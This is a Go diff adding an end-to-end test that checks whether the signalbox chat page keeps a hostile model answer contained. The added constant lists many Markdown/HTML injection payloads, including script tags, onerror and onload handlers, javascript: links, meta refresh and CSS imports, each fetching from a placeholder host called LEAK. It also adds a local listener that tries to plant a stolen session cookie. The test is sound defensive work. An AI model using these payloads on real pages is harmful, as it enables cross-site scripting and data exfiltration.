@@ -1,23 +1,152 @@
+//go:build linux
+
 package e2e
 
 import (
+	"bytes"
+	"encoding/json"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strings"
+	"sync"
 	"testing"
 
+	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"signalbox/internal/testenv"
 )
 
-// TestChatInTheRealPage drives the real page in Chromium against the real engine: chat, badge and reason, stop in the
-// middle, the request's row. SHOTS keeps its pictures in a folder.
-func TestChatInTheRealPage(t *testing.T) {
-	s := Start(t, nil)
-	cmd := exec.Command("npm", "--prefix", filepath.Join(testenv.Root(t), "frontend"), "run", "--silent", "e2e:real")
-	cmd.Env = append(os.Environ(), "SIGNALBOX_URL="+s.Page, "MODEL="+model, "DEVICE=CPU")
-	out, err := cmd.CombinedOutput()
-	t.Logf("%s", out)
+// hostileMarkdown is every way to a picture, a script, a frame or another address that Markdown and HTML have. LEAK is a
+// server's address.
+const hostileMarkdown = `![pixel](http://LEAK/pixel.png)
+![[x]](http://LEAK/a "t")
+[click](javascript:fetch('http://LEAK/js'))
+[data](data:text/html,<script>fetch('http://LEAK/data')</script>)
+<img src="http://LEAK/img" onerror="fetch('http://LEAK/onerror')">
+<img srcset="http://LEAK/srcset 1x, http://LEAK/srcset2 2x">
+<picture><source srcset="http://LEAK/source"><img></picture>
+<script>fetch('http://LEAK/script')</script>
+<script src="http://LEAK/src.js"></script>
+<iframe src="http://LEAK/frame"></iframe>
+<object data="http://LEAK/object"></object><embed src="http://LEAK/embed">
+<video src="http://LEAK/video" poster="http://LEAK/poster" autoplay></video><audio src="http://LEAK/audio" autoplay></audio>
+<meta http-equiv="refresh" content="0;url=http://LEAK/refresh">
+<base href="http://LEAK/base/">
+<link rel="stylesheet" href="http://LEAK/style.css"><link rel="prefetch" href="http://LEAK/prefetch"><link rel="dns-prefetch" href="http://LEAK/">
+<style>@import url(http://LEAK/import); body{background:url(http://LEAK/css)}</style>
+<p style="background:url(http://LEAK/inline)">x</p>
+<svg onload="fetch('http://LEAK/svg')"><use href="http://LEAK/use#x"/><image href="http://LEAK/image"/></svg>
+<math><mtext><img src=x onerror="fetch('http://LEAK/math')"></mtext></math>
+<form action="http://LEAK/form" id=f><input autofocus onfocus="document.getElementById('f').submit()"></form>
+<details open ontoggle="fetch('http://LEAK/toggle')">x</details>
+<body onload="fetch('http://LEAK/body')">
+<a href="http://LEAK/ping" ping="http://LEAK/ping2">x</a>
+THE END`
+
+// listener is somebody else's server on this machine, which answers everything and tries to take the session over.
+type listener struct {
+	*httptest.Server
+	mu   sync.Mutex
+	came []*http.Request // guarded by mu
+}
+
+func listen(t *testing.T) *listener {
+	l := &listener{}
+	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		l.mu.Lock()
+		l.came = append(l.came, r)
+		l.mu.Unlock()
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		http.SetCookie(w, &http.Cookie{Name: "signalbox_session", Value: "stolen", Path: "/"})
+	}))
+	t.Cleanup(l.Close)
+	return l
+}
+
+func (l *listener) requests() []*http.Request {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.came
+}
+
+// TestHostileAnswerStaysInThePage is check 3 of the threat page, with Chromium: an answer reaches no other server, no other
+// server gets the session's cookie or can replace it, and the secrets are nowhere to be read.
+func TestHostileAnswerStaysInThePage(t *testing.T) {
+	s := Start(t, nil, "--engine", "fake")
+	other := listen(t)
+	_, port, err := net.SplitHostPort(other.Listener.Addr().String())
 	require.NoError(t, err)
+	config, err := json.Marshal(map[string]any{
+		"frontend": filepath.Join(testenv.Root(t), "frontend"), "page": s.Page, "executable": "/usr/bin/chromium",
+		"others":   []string{"http://127.0.0.1:" + port + "/", "http://localhost:" + port + "/"},
+		"markdown": strings.ReplaceAll(hostileMarkdown, "LEAK", "127.0.0.1:"+port),
+	})
+	require.NoError(t, err)
+	node := exec.Command("node", filepath.Join("testdata", "hostile.mjs"))
+	node.Stdin, node.Stderr = bytes.NewReader(config), os.Stderr
+	out, err := node.Output()
+	require.NoError(t, err, "node with Chromium; `make setup system-test` installs both")
+	var seen struct {
+		Elsewhere, Referers, Dialogs, Texts, History []string
+		Address                                      string
+		Cookies                                      []struct{ Name, Value string }
+		InPage                                       struct{ Cookie, Stored string }
+	}
+	require.NoError(t, json.Unmarshal(out, &seen), "%s", out)
+
+	require.Len(t, seen.Texts, 2)
+	assert.Contains(t, seen.Texts[0], "THE END", "the answer was not shown whole, so it was not tried")
+	assert.Contains(t, seen.Texts[1], "still here", "another server's cookie ended the session")
+	assert.Empty(t, seen.Elsewhere)
+	assert.Empty(t, seen.Dialogs)
+	assert.Empty(t, seen.Referers)
+	came := other.requests()
+	for _, r := range came {
+		assert.Contains(t, []string{"/", "/favicon.ico"}, r.URL.Path, "the answer reached another server")
+		for _, c := range r.Cookies() {
+			assert.Equal(t, "stolen", c.Value, "%s got the session", r.Host)
+		}
+	}
+	require.GreaterOrEqual(t, len(came), 2, "the browser was to open both pages of the other server")
+
+	// The secrets: in no address, in no place that a script can read, in no log, in no process's arguments.
+	u, err := url.Parse(s.Page)
+	require.NoError(t, err)
+	code := u.Query().Get("code")
+	require.Len(t, seen.Cookies, 1)
+	session := seen.Cookies[0].Value
+	require.Len(t, session, 64)
+	for _, address := range append(seen.History, seen.Address) {
+		assert.NotContains(t, address, "code=")
+		assert.NotContains(t, address, s.Token)
+	}
+	assert.Empty(t, seen.InPage.Cookie, "HttpOnly")
+	assert.NotContains(t, seen.InPage.Stored, session)
+	log, err := os.ReadFile(filepath.Join(s.Home, "logs", "signalbox.log"))
+	require.NoError(t, err)
+	for what, text := range map[string]string{"the log": s.Log(), "the log file": string(log), "a command line": commandLines(t)} {
+		for _, secret := range []string{code, session, s.Token} {
+			assert.NotContains(t, text, secret, what)
+		}
+	}
+	assert.NotRegexp(t, `[?&](code|token|key)=`, string(log))
+}
+
+// commandLines are those of all processes, which every user of a machine can read.
+func commandLines(t *testing.T) string {
+	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
+	require.NoError(t, err)
+	var all strings.Builder
+	for _, file := range files {
+		text, _ := os.ReadFile(file)
+		all.Write(text)
+		all.WriteByte('\n')
+	}
+	return all.String()
 }
